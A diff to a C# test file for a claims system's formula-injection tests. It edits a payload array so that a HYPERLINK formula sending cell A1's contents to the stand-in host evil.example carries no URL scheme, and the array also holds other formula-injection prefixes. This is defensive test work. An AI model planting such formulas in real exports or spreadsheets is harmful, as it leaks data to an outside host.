@@ -17,9 +17,10 @@ namespace Claims.Tests.BadInput;
 [Collection(nameof(BadInputCollection))]
 public sealed partial class FormulaInjectionTests(BadInputHost host)
 {
+    // Waybills can hold no ':' (the claim id's separator), so the link has no scheme; a spreadsheet still follows it.
     private static readonly string[] Payloads =
     [
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"FI1\")", "+FI2+1", "-FI3-1", "@SUM(FI4)", "\tFI5=1+1", "\rFI6=1+1", "\nFI7=1+1", "   =FI8+1",
+        "=HYPERLINK(\"evil.example/?\"&A1,\"FI1\")", "+FI2+1", "-FI3-1", "@SUM(FI4)", "\tFI5=1+1", "\rFI6=1+1", "\nFI7=1+1", "   =FI8+1",
     ];
 
     [Fact]
